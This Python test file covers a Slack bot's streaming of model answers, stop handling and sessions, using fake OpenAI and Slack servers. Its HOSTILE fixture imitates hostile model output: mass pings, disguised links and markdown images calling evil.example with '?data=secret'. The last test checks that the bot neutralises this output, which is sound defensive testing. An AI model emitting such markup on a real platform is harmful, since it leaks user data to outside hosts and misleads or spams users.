"""Answers while they are written, in a whole product: one message each, whatever becomes of the stream."""

from __future__ import annotations

import asyncio
import math
import time
from collections.abc import AsyncIterator

import pytest

from tests.fakes.openai_server import FakeOpenAI, Reply, Request, fake_openai
from tests.fakes.slack.server import FakeSlack
from tests.slack.product.talk import Json, Talk, words
from tests.support.brain import obedient
from tests.support.slack_people import SlackPerson
from tests.support.tools import Workshop

SLOWLY = 0.025
"""Seconds between two words."""
STORY = "\n".join(f"Line {n} of a story that takes its time to be told." for n in range(8))
FILES = "\n".join(f"Step {n}: run setup.py and install.sh, then read README.md at docs.example.com." for n in range(8))
HOSTILE = """Dear <!channel> and <!here> and <@U2>, and @channel, @here, @everyone,
look at [this page](https://good.example/?data=secret) or <https://evil.example/?data=secret|good.example>
and at ![a picture](https://evil.example/x.png?data=secret), or see [the notes][1] and www.evil.example/x.png
[1]: https://evil.example/y.png
&lt;!channel&gt; <!subteam^S1> <#C2> <mailto:x@evil.example|x> and again <!channel>
This is the end of it."""


def brain(request: Request) -> Reply:
    """Stories are told slowly; everything else is done at once."""
    text = str(request["messages"][-1]["content"])
    for order, told in (("story", STORY), ("saga", STORY * 2), ("hostile", HOSTILE), ("files", FILES)):
        if text.endswith(order):
            return Reply(text=told, pause=SLOWLY)
    return obedient(request)


@pytest.fixture
async def model() -> AsyncIterator[FakeOpenAI]:
    async with fake_openai(brain) as server:
        yield server


def blocks_of(message: Json, kind: str) -> list[Json]:
    return [block for block in message["blocks"] if block["type"] == kind]


def is_posted(message: Json) -> bool:
    """Whether it is a post, and no draft any more."""
    return bool(message.get("metadata", {}).get("event_type") == "countersign_post")


async def streaming(talk: Talk) -> Json:
    """Wait until something streams in the thread."""
    found = await talk.slack.until(lambda: [m for m in talk.of_the_bot() if m["streaming"]])
    return dict(found[-1])


async def finished(talk: Talk, *wanted: str) -> Json:
    """Wait until a message has these words and the mark of its post."""

    def now() -> Json | None:
        has = (m for m in talk.of_the_bot() if all(w in words(m) for w in wanted) and not m["streaming"])
        return next((m for m in has if is_posted(m)), None)

    return dict(await talk.slack.until(now, within=20))


async def test_a_slow_answer_streams_and_ends_as_one_message(talk: Talk, slack: FakeSlack) -> None:
    await talk.mentions("tell me a story")
    begun = await streaming(talk)
    assert "Line 7" not in words(begun)
    answer = await finished(talk, "Line 0", "Line 7")
    assert answer["ts"] == begun["ts"]
    assert len(talk.of_the_bot()) == 1
    assert answer["metadata"]["event_payload"] == {"post": f"said:slack:T1:C1:{talk.thread_ts}.0", "part": 0}
    assert len(blocks_of(answer, "context_actions")) == 1
    (start,) = slack.calls_of("chat.startStream")
    assert start.arguments.items() >= {"thread_ts": talk.thread_ts, "recipient_user_id": "U1"}.items()
    assert len(slack.calls_of("chat.appendStream")) >= 2
    assert len(slack.calls_of("chat.stopStream")) == 1
    assert slack.calls_of("chat.update") == slack.calls_of("chat.postMessage") == []


async def test_what_a_stream_shows_with_blanks_stands_as_it_was_written_in_the_end(
    talk: Talk, slack: FakeSlack
) -> None:
    """Rule 8: what could be a host is none while it streams, and nobody's text is changed for good."""
    await talk.mentions("tell me of the files")
    begun = await streaming(talk)
    assert "setup. py" in words(begun)
    assert "setup.py" not in words(begun)
    answer = await finished(talk, "Step 0", "Step 7")
    assert answer["ts"] == begun["ts"]
    assert "run setup.py and install.sh, then read README.md at docs.example.com." in words(answer)
    assert "setup. py" not in words(answer)
    assert len(talk.of_the_bot()) == 1


async def test_a_direct_message_streams_too(slack: FakeSlack, ana: SlackPerson) -> None:
    talk = Talk(slack, ana, "D1")
    await talk.mentions("tell me a story")
    await streaming(talk)
    assert (await finished(talk, "Line 7"))["thread_ts"] == talk.thread_ts
    assert len(talk.of_the_bot()) == 1


async def test_a_stream_that_dies_in_the_middle_goes_on_in_the_same_message(talk: Talk, slack: FakeSlack) -> None:
    await talk.mentions("tell me a story")
    begun = await streaming(talk)
    slack.end_stream(begun["ts"])
    answer = await finished(talk, "Line 0", "Line 7")
    assert answer["ts"] == begun["ts"]
    assert len(talk.of_the_bot()) == 1
    assert len(blocks_of(answer, "context_actions")) == 1


async def test_without_streams_one_message_is_updated_at_most_once_a_second(talk: Talk, slack: FakeSlack) -> None:
    slack.fail("chat.startStream", error="unknown_method", times=math.inf)
    began = time.monotonic()
    await talk.mentions("tell me a saga")
    await slack.until(talk.of_the_bot)
    await finished(talk, "Line 0", "Line 7")
    updates = len(slack.calls_of("chat.update"))
    assert 2 <= updates <= time.monotonic() - began + 1
    assert len(talk.of_the_bot()) == len(slack.calls_of("chat.postMessage")) == 1


async def test_a_tool_call_has_its_card_while_it_runs_and_the_answer_comes_below(talk: Talk, shop: Workshop) -> None:
    await talk.mentions("use make_slowly what=lamp")
    await talk.clicks(await talk.card(), "approve")
    await talk.slack.until(shop.started.is_set)
    begun = await streaming(talk)
    (task,) = blocks_of(begun, "task_card")
    assert (task["title"], task["status"]) == ("workshop: Make it slowly", "in_progress")
    shop.may_end.set()
    answer = await finished(talk, "Results: made lamp slowly")
    assert answer["ts"] == begun["ts"]
    assert [block["status"] for block in blocks_of(answer, "task_card")] in (["complete"], [])
    assert "in_progress" not in str(talk.of_the_bot())


async def test_what_was_looked_up_quickly_stands_below_the_answer_and_costs_no_call(
    talk: Talk, slack: FakeSlack, shop: Workshop
) -> None:
    slack.fail("chat.startStream", error="unknown_method", times=math.inf)
    await talk.mentions("use look what=lamp; fail what=lamp")
    card = await talk.card("workshop › fail")
    await slack.until(lambda: shop.looked == ["lamp"])
    await talk.clicks(card, "approve")
    answer = await finished(talk, "Results: lamp looks fine")
    assert [block["type"] for block in answer["blocks"]] == ["rich_text", "context", "context_actions"]
    assert words({"blocks": answer["blocks"][1:2]}) == "✓ workshop › look · ❌ workshop › fail"
    assert len(slack.calls_of("chat.postMessage")) == len(talk.of_the_bot()) == 3
    assert answer["ts"] not in [call.arguments["ts"] for call in slack.calls_of("chat.update")]
    (announced,) = (m for m in talk.of_the_bot() if "On it." in words(m))
    assert blocks_of(announced, "context") == []


# --------------------------------------------------------------------------------------------------- stop


async def test_stop_in_the_middle_of_an_answer_leaves_no_open_stream(talk: Talk) -> None:
    await talk.mentions("tell me a story")
    await streaming(talk)
    await talk.replies("stop")
    await talk.says("Stopped.")
    await talk.slack.until(lambda: not any(m["streaming"] for m in talk.of_the_bot()))
    assert not any("Line 7" in words(m) for m in talk.of_the_bot())
    await talk.mentions("hello")
    await finished(talk, "You said: hello")
    assert len(talk.of_the_bot()) == 3


async def test_slacks_own_stop_button_ends_the_turn_and_the_session_rests(talk: Talk, slack: FakeSlack) -> None:
    await talk.mentions("tell me a story")
    begun = await streaming(talk)
    slack.end_stream(begun["ts"])
    await presses_stop(talk, begun["ts"])
    await talk.says("Stopped.")
    await slack.until(lambda: slack.sessions("C1", talk.thread_ts)[-1] == "active")
    assert not any(m["streaming"] for m in talk.of_the_bot())


async def presses_stop(talk: Talk, *streams: str) -> None:
    """As Slack tells the app."""
    event = {
        "type": "agent_session_stopped",
        "channel": talk.channel,
        "thread_ts": talk.thread_ts,
        "user": talk.person.user,
        "event_ts": talk.slack.world.next_ts(),
        "streaming_message_ts": list(streams),
    }
    envelope = {"type": "event_callback", "team_id": "T1", "api_app_id": "A1", "event_id": "Ev1", "event_time": 1}
    authorizations = [{"team_id": "T1", "user_id": "UBOT", "is_bot": True, "is_enterprise_install": False}]
    answer = await talk.person.transport.event({**envelope, "authorizations": authorizations, "event": event})
    assert answer.status == 200


# --------------------------------------------------------------------------------------------------- sessions


async def test_the_session_works_waits_for_a_person_and_rests(talk: Talk, slack: FakeSlack) -> None:
    await talk.mentions("use make what=lamp")
    card = await talk.card()
    await slack.until(lambda: slack.sessions("C1", talk.thread_ts) == ["processing", "suspended"])
    await talk.clicks(card, "approve")
    await talk.says("Results: made lamp")
    await slack.until(lambda: slack.sessions("C1", talk.thread_ts)[-1] == "active")
    assert slack.statuses("C1", talk.thread_ts) == []


# --------------------------------------------------------------------------------------------------- hostile


@pytest.mark.parametrize("streams", [True, False])
async def test_nothing_a_model_writes_can_ping_lead_astray_or_be_fetched_at_any_moment(
    talk: Talk, slack: FakeSlack, *, streams: bool
) -> None:
    if not streams:
        slack.fail("chat.startStream", error="unknown_method", times=math.inf)
    await talk.mentions("be hostile")
    seen = 0
    async with asyncio.timeout(20):
        while not any("This is the end of it." in words(m) and is_posted(m) for m in talk.of_the_bot()):
            for message in talk.of_the_bot():
                seen += bool(message["streaming"])
                assert mistakes(message) == []
            await asyncio.sleep(0.02)
    assert bool(seen) == streams
    assert [m for message in talk.of_the_bot() for m in mistakes(message)] == []
    assert all(c.arguments["unfurl_links"] is False for c in slack.calls_of("chat.postMessage"))
    assert slack.product_mistakes == []


def mistakes(message: Json) -> list[str]:
    return [m for m in ("<!", "<@", "<#", "<http", "](", "![") if m in markdown_of(message)] + [
        block["type"] for block in message["blocks"] if block["type"] == "image"
    ]


def markdown_of(message: Json) -> str:
    """What Slack parses in a message: streamed text, and the text beside the blocks. In rich text nothing is."""
    streamed = [block["text"] for block in message["blocks"] if block["type"] == "markdown"]
    return "\n".join([*streamed, message["text"] if message["streaming"] else ""])
